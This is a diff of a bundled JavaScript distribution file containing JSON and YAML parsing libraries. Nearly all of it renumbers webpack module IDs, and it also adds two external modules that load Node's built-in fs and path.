@@ -1,7 +1,7 @@
 import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
 /******/ var __webpack_modules__ = ({
 
-/***/ 298:
+/***/ 3501:
 /***/ ((module) => {
 
 // A simple implementation of make-array
@@ -1640,7 +1640,7 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
 
 /***/ }),
 
-/***/ 4807:
+/***/ 519:
 /***/ ((module, exports, __nccwpck_require__) => {
 
 (function (factory) {
@@ -1659,8 +1659,8 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
     'use strict';
     Object.defineProperty(exports, "__esModule", ({ value: true }));
     exports.isWS = exports.applyEdit = exports.setProperty = exports.removeProperty = void 0;
-    const format_1 = __nccwpck_require__(6612);
-    const parser_1 = __nccwpck_require__(5152);
+    const format_1 = __nccwpck_require__(4612);
+    const parser_1 = __nccwpck_require__(9168);
     function removeProperty(text, path, options) {
         return setProperty(text, path, void 0, options);
     }
@@ -1848,7 +1848,7 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
 
 /***/ }),
 
-/***/ 6612:
+/***/ 4612:
 /***/ ((module, exports, __nccwpck_require__) => {
 
 (function (factory) {
@@ -1867,8 +1867,8 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
     'use strict';
     Object.defineProperty(exports, "__esModule", ({ value: true }));
     exports.isEOL = exports.format = void 0;
-    const scanner_1 = __nccwpck_require__(8525);
-    const string_intern_1 = __nccwpck_require__(4579);
+    const scanner_1 = __nccwpck_require__(7885);
+    const string_intern_1 = __nccwpck_require__(7139);
     function format(documentText, range, options) {
         let initialIndentLevel;
         let formatText;
@@ -2130,7 +2130,7 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
 
 /***/ }),
 
-/***/ 5152:
+/***/ 9168:
 /***/ ((module, exports, __nccwpck_require__) => {
 
 (function (factory) {
@@ -2149,7 +2149,7 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
     'use strict';
     Object.defineProperty(exports, "__esModule", ({ value: true }));
     exports.getNodeType = exports.stripComments = exports.visit = exports.findNodeAtOffset = exports.contains = exports.getNodeValue = exports.getNodePath = exports.findNodeAtLocation = exports.parseTree = exports.parse = exports.getLocation = void 0;
-    const scanner_1 = __nccwpck_require__(8525);
+    const scanner_1 = __nccwpck_require__(7885);
     var ParseOptions;
     (function (ParseOptions) {
         ParseOptions.DEFAULT = {
@@ -2819,7 +2819,7 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
 
 /***/ }),
 
-/***/ 8525:
+/***/ 7885:
 /***/ ((module, exports) => {
 
 (function (factory) {
@@ -3282,7 +3282,7 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
 
 /***/ }),
 
-/***/ 4579:
+/***/ 7139:
 /***/ ((module, exports) => {
 
 (function (factory) {
@@ -3331,7 +3331,7 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
 
 /***/ }),
 
-/***/ 9547:
+/***/ 9131:
 /***/ ((module, exports, __nccwpck_require__) => {
 
 (function (factory) {
@@ -3350,10 +3350,10 @@ define(module.exports, Symbol.for('setupWindows'), setupWindows)
     'use strict';
     Object.defineProperty(exports, "__esModule", ({ value: true }));
     exports.applyEdits = exports.modify = exports.format = exports.printParseErrorCode = exports.ParseErrorCode = exports.stripComments = exports.visit = exports.getNodeValue = exports.getNodePath = exports.findNodeAtOffset = exports.findNodeAtLocation = exports.parseTree = exports.parse = exports.getLocation = exports.SyntaxKind = exports.ScanError = exports.createScanner = void 0;
-    const formatter = __nccwpck_require__(6612);
-    const edit = __nccwpck_require__(4807);
-    const scanner = __nccwpck_require__(8525);
-    const parser = __nccwpck_require__(5152);
+    const formatter = __nccwpck_require__(4612);
+    const edit = __nccwpck_require__(519);
+    const scanner = __nccwpck_require__(7885);
+    const parser = __nccwpck_require__(9168);
     /**
      * Creates a JSON scanner on the given text.
      * If ignoreTrivia is set, whitespaces or comments are ignored.
@@ -3539,6 +3539,20 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("buffer");
 
 /***/ }),
 
+/***/ 3024:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
+
+/***/ }),
+
+/***/ 6760:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");
+
+/***/ }),
+
 /***/ 932:
 /***/ ((module) => {
 
@@ -3546,18 +3560,18 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("process");
 
 /***/ }),
 
-/***/ 7349:
+/***/ 2197:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var Scalar = __nccwpck_require__(3301);
-var YAMLMap = __nccwpck_require__(4454);
-var YAMLSeq = __nccwpck_require__(2223);
-var resolveBlockMap = __nccwpck_require__(7103);
-var resolveBlockSeq = __nccwpck_require__(334);
-var resolveFlowCollection = __nccwpck_require__(3142);
+var identity = __nccwpck_require__(4919);
+var Scalar = __nccwpck_require__(389);
+var YAMLMap = __nccwpck_require__(5462);
+var YAMLSeq = __nccwpck_require__(6831);
+var resolveBlockMap = __nccwpck_require__(143);
+var resolveBlockSeq = __nccwpck_require__(1854);
+var resolveFlowCollection = __nccwpck_require__(9030);
 
 function resolveCollection(CN, ctx, token, onError, tagName, tag) {
     const coll = token.type === 'block-map'
@@ -3643,15 +3657,15 @@ exports.composeCollection = composeCollection;
 
 /***/ }),
 
-/***/ 3683:
+/***/ 83:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Document = __nccwpck_require__(3021);
-var composeNode = __nccwpck_require__(5937);
-var resolveEnd = __nccwpck_require__(7788);
-var resolveProps = __nccwpck_require__(4631);
+var Document = __nccwpck_require__(573);
+var composeNode = __nccwpck_require__(4961);
+var resolveEnd = __nccwpck_require__(1020);
+var resolveProps = __nccwpck_require__(775);
 
 function composeDoc(options, directives, { offset, start, value, end }, onError) {
     const opts = Object.assign({ _directives: directives }, options);
@@ -3695,17 +3709,17 @@ exports.composeDoc = composeDoc;
 
 /***/ }),
 
-/***/ 5937:
+/***/ 4961:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Alias = __nccwpck_require__(4065);
-var identity = __nccwpck_require__(1127);
-var composeCollection = __nccwpck_require__(7349);
-var composeScalar = __nccwpck_require__(5413);
-var resolveEnd = __nccwpck_require__(7788);
-var utilEmptyScalarPosition = __nccwpck_require__(2599);
+var Alias = __nccwpck_require__(7105);
+var identity = __nccwpck_require__(4919);
+var composeCollection = __nccwpck_require__(2197);
+var composeScalar = __nccwpck_require__(3573);
+var resolveEnd = __nccwpck_require__(1020);
+var utilEmptyScalarPosition = __nccwpck_require__(8407);
 
 const CN = { composeNode, composeEmptyNode };
 function composeNode(ctx, token, props, onError) {
@@ -3814,15 +3828,15 @@ exports.composeNode = composeNode;
 
 /***/ }),
 
-/***/ 5413:
+/***/ 3573:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var Scalar = __nccwpck_require__(3301);
-var resolveBlockScalar = __nccwpck_require__(8913);
-var resolveFlowScalar = __nccwpck_require__(6842);
+var identity = __nccwpck_require__(4919);
+var Scalar = __nccwpck_require__(389);
+var resolveBlockScalar = __nccwpck_require__(5089);
+var resolveFlowScalar = __nccwpck_require__(5882);
 
 function composeScalar(ctx, token, tagToken, onError) {
     const { value, type, comment, range } = token.type === 'block-scalar'
@@ -3909,18 +3923,18 @@ exports.composeScalar = composeScalar;
 
 /***/ }),
 
-/***/ 9984:
+/***/ 3104:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
 var node_process = __nccwpck_require__(932);
-var directives = __nccwpck_require__(1342);
-var Document = __nccwpck_require__(3021);
-var errors = __nccwpck_require__(1464);
-var identity = __nccwpck_require__(1127);
-var composeDoc = __nccwpck_require__(3683);
-var resolveEnd = __nccwpck_require__(7788);
+var directives = __nccwpck_require__(2606);
+var Document = __nccwpck_require__(573);
+var errors = __nccwpck_require__(152);
+var identity = __nccwpck_require__(4919);
+var composeDoc = __nccwpck_require__(83);
+var resolveEnd = __nccwpck_require__(1020);
 
 function getErrorPos(src) {
     if (typeof src === 'number')
@@ -4140,17 +4154,17 @@ exports.Composer = Composer;
 
 /***/ }),
 
-/***/ 7103:
+/***/ 143:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Pair = __nccwpck_require__(7165);
-var YAMLMap = __nccwpck_require__(4454);
-var resolveProps = __nccwpck_require__(4631);
-var utilContainsNewline = __nccwpck_require__(9499);
-var utilFlowIndentCheck = __nccwpck_require__(4051);
-var utilMapIncludes = __nccwpck_require__(1187);
+var Pair = __nccwpck_require__(5773);
+var YAMLMap = __nccwpck_require__(5462);
+var resolveProps = __nccwpck_require__(775);
+var utilContainsNewline = __nccwpck_require__(4283);
+var utilFlowIndentCheck = __nccwpck_require__(1795);
+var utilMapIncludes = __nccwpck_require__(1091);
 
 const startColMsg = 'All mapping items must start at the same column';
 function resolveBlockMap({ composeNode, composeEmptyNode }, ctx, bm, onError, tag) {
@@ -4264,12 +4278,12 @@ exports.resolveBlockMap = resolveBlockMap;
 
 /***/ }),
 
-/***/ 8913:
+/***/ 5089:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(3301);
+var Scalar = __nccwpck_require__(389);
 
 function resolveBlockScalar(ctx, scalar, onError) {
     const start = scalar.offset;
@@ -4471,14 +4485,14 @@ exports.resolveBlockScalar = resolveBlockScalar;
 
 /***/ }),
 
-/***/ 334:
+/***/ 1854:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var YAMLSeq = __nccwpck_require__(2223);
-var resolveProps = __nccwpck_require__(4631);
-var utilFlowIndentCheck = __nccwpck_require__(4051);
+var YAMLSeq = __nccwpck_require__(6831);
+var resolveProps = __nccwpck_require__(775);
+var utilFlowIndentCheck = __nccwpck_require__(1795);
 
 function resolveBlockSeq({ composeNode, composeEmptyNode }, ctx, bs, onError, tag) {
     const NodeClass = tag?.nodeClass ?? YAMLSeq.YAMLSeq;
@@ -4529,7 +4543,7 @@ exports.resolveBlockSeq = resolveBlockSeq;
 
 /***/ }),
 
-/***/ 7788:
+/***/ 1020:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -4575,19 +4589,19 @@ exports.resolveEnd = resolveEnd;
 
 /***/ }),
 
-/***/ 3142:
+/***/ 9030:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var Pair = __nccwpck_require__(7165);
-var YAMLMap = __nccwpck_require__(4454);
-var YAMLSeq = __nccwpck_require__(2223);
-var resolveEnd = __nccwpck_require__(7788);
-var resolveProps = __nccwpck_require__(4631);
-var utilContainsNewline = __nccwpck_require__(9499);
-var utilMapIncludes = __nccwpck_require__(1187);
+var identity = __nccwpck_require__(4919);
+var Pair = __nccwpck_require__(5773);
+var YAMLMap = __nccwpck_require__(5462);
+var YAMLSeq = __nccwpck_require__(6831);
+var resolveEnd = __nccwpck_require__(1020);
+var resolveProps = __nccwpck_require__(775);
+var utilContainsNewline = __nccwpck_require__(4283);
+var utilMapIncludes = __nccwpck_require__(1091);
 
 const blockMsg = 'Block collections are not allowed within flow collections';
 const isBlock = (token) => token && (token.type === 'block-map' || token.type === 'block-seq');
@@ -4791,13 +4805,13 @@ exports.resolveFlowCollection = resolveFlowCollection;
 
 /***/ }),
 
-/***/ 6842:
+/***/ 5882:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(3301);
-var resolveEnd = __nccwpck_require__(7788);
+var Scalar = __nccwpck_require__(389);
+var resolveEnd = __nccwpck_require__(1020);
 
 function resolveFlowScalar(scalar, strict, onError) {
     const { offset, type, source, end } = scalar;
@@ -5026,7 +5040,7 @@ exports.resolveFlowScalar = resolveFlowScalar;
 
 /***/ }),
 
-/***/ 4631:
+/***/ 775:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -5181,7 +5195,7 @@ exports.resolveProps = resolveProps;
 
 /***/ }),
 
-/***/ 9499:
+/***/ 4283:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -5224,7 +5238,7 @@ exports.containsNewline = containsNewline;
 
 /***/ }),
 
-/***/ 2599:
+/***/ 8407:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -5259,12 +5273,12 @@ exports.emptyScalarPosition = emptyScalarPosition;
 
 /***/ }),
 
-/***/ 4051:
+/***/ 1795:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var utilContainsNewline = __nccwpck_require__(9499);
+var utilContainsNewline = __nccwpck_require__(4283);
 
 function flowIndentCheck(indent, fc, onError) {
     if (fc?.type === 'flow-collection') {
@@ -5283,12 +5297,12 @@ exports.flowIndentCheck = flowIndentCheck;
 
 /***/ }),
 
-/***/ 1187:
+/***/ 1091:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
+var identity = __nccwpck_require__(4919);
 
 function mapIncludes(ctx, items, search) {
     const { uniqueKeys } = ctx.options;
@@ -5305,22 +5319,22 @@ exports.mapIncludes = mapIncludes;
 
 /***/ }),
 
-/***/ 3021:
+/***/ 573:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Alias = __nccwpck_require__(4065);
-var Collection = __nccwpck_require__(101);
-var identity = __nccwpck_require__(1127);
-var Pair = __nccwpck_require__(7165);
-var toJS = __nccwpck_require__(4043);
-var Schema = __nccwpck_require__(5840);
-var stringifyDocument = __nccwpck_require__(6829);
-var anchors = __nccwpck_require__(1596);
-var applyReviver = __nccwpck_require__(3661);
-var createNode = __nccwpck_require__(2404);
-var directives = __nccwpck_require__(1342);
+var Alias = __nccwpck_require__(7105);
+var Collection = __nccwpck_require__(4661);
+var identity = __nccwpck_require__(4919);
+var Pair = __nccwpck_require__(5773);
+var toJS = __nccwpck_require__(3899);
+var Schema = __nccwpck_require__(8224);
+var stringifyDocument = __nccwpck_require__(2285);
+var anchors = __nccwpck_require__(9196);
+var applyReviver = __nccwpck_require__(909);
+var createNode = __nccwpck_require__(1732);
+var directives = __nccwpck_require__(2606);
 
 class Document {
     constructor(value, replacer, options) {
@@ -5649,13 +5663,13 @@ exports.Document = Document;
 
 /***/ }),
 
-/***/ 1596:
+/***/ 9196:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var visit = __nccwpck_require__(204);
+var identity = __nccwpck_require__(4919);
+var visit = __nccwpck_require__(2588);
 
 /**
  * Verify that the input string is a valid anchor.
@@ -5732,7 +5746,7 @@ exports.findNewAnchor = findNewAnchor;
 
 /***/ }),
 
-/***/ 3661:
+/***/ 909:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -5796,14 +5810,14 @@ exports.applyReviver = applyReviver;
 
 /***/ }),
 
-/***/ 2404:
+/***/ 1732:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Alias = __nccwpck_require__(4065);
-var identity = __nccwpck_require__(1127);
-var Scalar = __nccwpck_require__(3301);
+var Alias = __nccwpck_require__(7105);
+var identity = __nccwpck_require__(4919);
+var Scalar = __nccwpck_require__(389);
 
 const defaultTagPrefix = 'tag:yaml.org,2002:';
 function findTagObject(value, tagName, tags) {
@@ -5893,13 +5907,13 @@ exports.createNode = createNode;
 
 /***/ }),
 
-/***/ 1342:
+/***/ 2606:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var visit = __nccwpck_require__(204);
+var identity = __nccwpck_require__(4919);
+var visit = __nccwpck_require__(2588);
 
 const escapeChars = {
     '!': '%21',
@@ -6078,7 +6092,7 @@ exports.Directives = Directives;
 
 /***/ }),
 
-/***/ 1464:
+/***/ 152:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -6147,28 +6161,28 @@ exports.prettifyError = prettifyError;
 
 /***/ }),
 
-/***/ 8815:
+/***/ 3439:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 var __webpack_unused_export__;
 
 
-var composer = __nccwpck_require__(9984);
-var Document = __nccwpck_require__(3021);
-var Schema = __nccwpck_require__(5840);
-var errors = __nccwpck_require__(1464);
-var Alias = __nccwpck_require__(4065);
-var identity = __nccwpck_require__(1127);
-var Pair = __nccwpck_require__(7165);
-var Scalar = __nccwpck_require__(3301);
-var YAMLMap = __nccwpck_require__(4454);
-var YAMLSeq = __nccwpck_require__(2223);
-var cst = __nccwpck_require__(3461);
-var lexer = __nccwpck_require__(361);
-var lineCounter = __nccwpck_require__(6628);
-var parser = __nccwpck_require__(3456);
-var publicApi = __nccwpck_require__(4047);
-var visit = __nccwpck_require__(204);
+var composer = __nccwpck_require__(3104);
+var Document = __nccwpck_require__(573);
+var Schema = __nccwpck_require__(8224);
+var errors = __nccwpck_require__(152);
+var Alias = __nccwpck_require__(7105);
+var identity = __nccwpck_require__(4919);
+var Pair = __nccwpck_require__(5773);
+var Scalar = __nccwpck_require__(389);
+var YAMLMap = __nccwpck_require__(5462);
+var YAMLSeq = __nccwpck_require__(6831);
+var cst = __nccwpck_require__(9877);
+var lexer = __nccwpck_require__(5145);
+var lineCounter = __nccwpck_require__(1460);
+var parser = __nccwpck_require__(2064);
+var publicApi = __nccwpck_require__(4543);
+var visit = __nccwpck_require__(2588);
 
 
 
@@ -6205,7 +6219,7 @@ __webpack_unused_export__ = visit.visitAsync;
 
 /***/ }),
 
-/***/ 7249:
+/***/ 7297:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
@@ -6231,16 +6245,16 @@ exports.warn = warn;
 
 /***/ }),
 
-/***/ 4065:
+/***/ 7105:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var anchors = __nccwpck_require__(1596);
-var visit = __nccwpck_require__(204);
-var identity = __nccwpck_require__(1127);
-var Node = __nccwpck_require__(6673);
-var toJS = __nccwpck_require__(4043);
+var anchors = __nccwpck_require__(9196);
+var visit = __nccwpck_require__(2588);
+var identity = __nccwpck_require__(4919);
+var Node = __nccwpck_require__(4833);
+var toJS = __nccwpck_require__(3899);
 
 class Alias extends Node.NodeBase {
     constructor(source) {
@@ -6358,14 +6372,14 @@ exports.Alias = Alias;
 
 /***/ }),
 
-/***/ 101:
+/***/ 4661:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var createNode = __nccwpck_require__(2404);
-var identity = __nccwpck_require__(1127);
-var Node = __nccwpck_require__(6673);
+var createNode = __nccwpck_require__(1732);
+var identity = __nccwpck_require__(4919);
+var Node = __nccwpck_require__(4833);
 
 function collectionFromPath(schema, path, value) {
     let v = value;
@@ -6516,14 +6530,14 @@ exports.isEmptyPath = isEmptyPath;
 
 /***/ }),
 
-/***/ 6673:
+/***/ 4833:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var applyReviver = __nccwpck_require__(3661);
-var identity = __nccwpck_require__(1127);
-var toJS = __nccwpck_require__(4043);
+var applyReviver = __nccwpck_require__(909);
+var identity = __nccwpck_require__(4919);
+var toJS = __nccwpck_require__(3899);
 
 class NodeBase {
     constructor(type) {
@@ -6563,15 +6577,15 @@ exports.NodeBase = NodeBase;
 
 /***/ }),
 
-/***/ 7165:
+/***/ 5773:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var createNode = __nccwpck_require__(2404);
-var stringifyPair = __nccwpck_require__(9748);
-var addPairToJSMap = __nccwpck_require__(7104);
-var identity = __nccwpck_require__(1127);
+var createNode = __nccwpck_require__(1732);
+var stringifyPair = __nccwpck_require__(7764);
+var addPairToJSMap = __nccwpck_require__(8768);
+var identity = __nccwpck_require__(4919);
 
 function createPair(key, value, ctx) {
     const k = createNode.createNode(key, undefined, ctx);
@@ -6609,14 +6623,14 @@ exports.createPair = createPair;
 
 /***/ }),
 
-/***/ 3301:
+/***/ 389:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var Node = __nccwpck_require__(6673);
-var toJS = __nccwpck_require__(4043);
+var identity = __nccwpck_require__(4919);
+var Node = __nccwpck_require__(4833);
+var toJS = __nccwpck_require__(3899);
 
 const isScalarValue = (value) => !value || (typeof value !== 'function' && typeof value !== 'object');
 class Scalar extends Node.NodeBase {
@@ -6643,17 +6657,17 @@ exports.isScalarValue = isScalarValue;
 
 /***/ }),
 
-/***/ 4454:
+/***/ 5462:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyCollection = __nccwpck_require__(1212);
-var addPairToJSMap = __nccwpck_require__(7104);
-var Collection = __nccwpck_require__(101);
-var identity = __nccwpck_require__(1127);
-var Pair = __nccwpck_require__(7165);
-var Scalar = __nccwpck_require__(3301);
+var stringifyCollection = __nccwpck_require__(4156);
+var addPairToJSMap = __nccwpck_require__(8768);
+var Collection = __nccwpck_require__(4661);
+var identity = __nccwpck_require__(4919);
+var Pair = __nccwpck_require__(5773);
+var Scalar = __nccwpck_require__(389);
 
 function findPair(items, key) {
     const k = identity.isScalar(key) ? key.value : key;
@@ -6797,17 +6811,17 @@ exports.findPair = findPair;
 
 /***/ }),
 
-/***/ 2223:
+/***/ 6831:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var createNode = __nccwpck_require__(2404);
-var stringifyCollection = __nccwpck_require__(1212);
-var Collection = __nccwpck_require__(101);
-var identity = __nccwpck_require__(1127);
-var Scalar = __nccwpck_require__(3301);
-var toJS = __nccwpck_require__(4043);
+var createNode = __nccwpck_require__(1732);
+var stringifyCollection = __nccwpck_require__(4156);
+var Collection = __nccwpck_require__(4661);
+var identity = __nccwpck_require__(4919);
+var Scalar = __nccwpck_require__(389);
+var toJS = __nccwpck_require__(3899);
 
 class YAMLSeq extends Collection.Collection {
     static get tagName() {
@@ -6919,16 +6933,16 @@ exports.YAMLSeq = YAMLSeq;
 
 /***/ }),
 
-/***/ 7104:
+/***/ 8768:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var log = __nccwpck_require__(7249);
-var merge = __nccwpck_require__(452);
-var stringify = __nccwpck_require__(2148);
-var identity = __nccwpck_require__(1127);
-var toJS = __nccwpck_require__(4043);
+var log = __nccwpck_require__(7297);
+var merge = __nccwpck_require__(9380);
+var stringify = __nccwpck_require__(9300);
+var identity = __nccwpck_require__(4919);
+var toJS = __nccwpck_require__(3899);
 
 function addPairToJSMap(ctx, map, { key, value }) {
     if (identity.isNode(key) && key.addToJSMap)
@@ -6991,7 +7005,7 @@ exports.addPairToJSMap = addPairToJSMap;
 
 /***/ }),
 
-/***/ 1127:
+/***/ 4919:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -7051,12 +7065,12 @@ exports.isSeq = isSeq;
 
 /***/ }),
 
-/***/ 4043:
+/***/ 3899:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
+var identity = __nccwpck_require__(4919);
 
 /**
  * Recursively convert any node or its contents to native JavaScript
@@ -7097,15 +7111,15 @@ exports.toJS = toJS;
 
 /***/ }),
 
-/***/ 110:
+/***/ 334:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var resolveBlockScalar = __nccwpck_require__(8913);
-var resolveFlowScalar = __nccwpck_require__(6842);
-var errors = __nccwpck_require__(1464);
-var stringifyString = __nccwpck_require__(3069);
+var resolveBlockScalar = __nccwpck_require__(5089);
+var resolveFlowScalar = __nccwpck_require__(5882);
+var errors = __nccwpck_require__(152);
+var stringifyString = __nccwpck_require__(1773);
 
 function resolveAsScalar(token, strict = true, onError) {
     if (token) {
@@ -7322,7 +7336,7 @@ exports.setScalarValue = setScalarValue;
 
 /***/ }),
 
-/***/ 1733:
+/***/ 3701:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -7392,7 +7406,7 @@ exports.stringify = stringify;
 
 /***/ }),
 
-/***/ 7715:
+/***/ 5235:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -7498,14 +7512,14 @@ exports.visit = visit;
 
 /***/ }),
 
-/***/ 3461:
+/***/ 9877:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var cstScalar = __nccwpck_require__(110);
-var cstStringify = __nccwpck_require__(1733);
-var cstVisit = __nccwpck_require__(7715);
+var cstScalar = __nccwpck_require__(334);
+var cstStringify = __nccwpck_require__(3701);
+var cstVisit = __nccwpck_require__(5235);
 
 /** The byte order mark */
 const BOM = '\u{FEFF}';
@@ -7617,12 +7631,12 @@ exports.tokenType = tokenType;
 
 /***/ }),
 
-/***/ 361:
+/***/ 5145:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var cst = __nccwpck_require__(3461);
+var cst = __nccwpck_require__(9877);
 
 /*
 START -> stream
@@ -8347,7 +8361,7 @@ exports.Lexer = Lexer;
 
 /***/ }),
 
-/***/ 6628:
+/***/ 1460:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -8395,14 +8409,14 @@ exports.LineCounter = LineCounter;
 
 /***/ }),
 
-/***/ 3456:
+/***/ 2064:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
 var node_process = __nccwpck_require__(932);
-var cst = __nccwpck_require__(3461);
-var lexer = __nccwpck_require__(361);
+var cst = __nccwpck_require__(9877);
+var lexer = __nccwpck_require__(5145);
 
 function includesToken(list, type) {
     for (let i = 0; i < list.length; ++i)
@@ -9382,18 +9396,18 @@ exports.Parser = Parser;
 
 /***/ }),
 
-/***/ 4047:
+/***/ 4543:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var composer = __nccwpck_require__(9984);
-var Document = __nccwpck_require__(3021);
-var errors = __nccwpck_require__(1464);
-var log = __nccwpck_require__(7249);
-var identity = __nccwpck_require__(1127);
-var lineCounter = __nccwpck_require__(6628);
-var parser = __nccwpck_require__(3456);
+var composer = __nccwpck_require__(3104);
+var Document = __nccwpck_require__(573);
+var errors = __nccwpck_require__(152);
+var log = __nccwpck_require__(7297);
+var identity = __nccwpck_require__(4919);
+var lineCounter = __nccwpck_require__(1460);
+var parser = __nccwpck_require__(2064);
 
 function parseOptions(options) {
     const prettyErrors = options.prettyErrors !== false;
@@ -9496,16 +9510,16 @@ exports.stringify = stringify;
 
 /***/ }),
 
-/***/ 5840:
+/***/ 8224:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var map = __nccwpck_require__(7451);
-var seq = __nccwpck_require__(1706);
-var string = __nccwpck_require__(6464);
-var tags = __nccwpck_require__(18);
+var identity = __nccwpck_require__(4919);
+var map = __nccwpck_require__(4043);
+var seq = __nccwpck_require__(7562);
+var string = __nccwpck_require__(4704);
+var tags = __nccwpck_require__(6178);
 
 const sortMapEntriesByKey = (a, b) => a.key < b.key ? -1 : a.key > b.key ? 1 : 0;
 class Schema {
@@ -9542,13 +9556,13 @@ exports.Schema = Schema;
 
 /***/ }),
 
-/***/ 7451:
+/***/ 4043:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var YAMLMap = __nccwpck_require__(4454);
+var identity = __nccwpck_require__(4919);
+var YAMLMap = __nccwpck_require__(5462);
 
 const map = {
     collection: 'map',
@@ -9568,12 +9582,12 @@ exports.map = map;
 
 /***/ }),
 
-/***/ 3632:
+/***/ 5632:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(3301);
+var Scalar = __nccwpck_require__(389);
 
 const nullTag = {
     identify: value => value == null,
@@ -9592,13 +9606,13 @@ exports.nullTag = nullTag;
 
 /***/ }),
 
-/***/ 1706:
+/***/ 7562:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(1127);
-var YAMLSeq = __nccwpck_require__(2223);
+var identity = __nccwpck_require__(4919);
+var YAMLSeq = __nccwpck_require__(6831);
 
 const seq = {
     collection: 'seq',
@@ -9618,12 +9632,12 @@ exports.seq = seq;
 
 /***/ }),
 
-/***/ 6464:
+/***/ 4704:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyString = __nccwpck_require__(3069);
+var stringifyString = __nccwpck_require__(1773);
 
 const string = {
     identify: value => typeof value === 'string',
@@ -9641,12 +9655,12 @@ exports.string = string;
 
 /***/ }),
 
-/***/ 3959:
+/***/ 4359:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(3301);
+var Scalar = __nccwpck_require__(389);
 
 const boolTag = {
     identify: value => typeof value === 'boolean',
@@ -9669,13 +9683,13 @@ exports.boolTag = boolTag;
 
 /***/ }),
 
-/***/ 8405:
+/***/ 6229:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(3301);
-var stringifyNumber = __nccwpck_require__(8689);
+var Scalar = __nccwpck_require__(389);
+var stringifyNumber = __nccwpck_require__(3569);
 
 const floatNaN = {
     identify: value => typeof value === 'number',
@@ -9723,12 +9737,12 @@ exports.floatNaN = floatNaN;
 
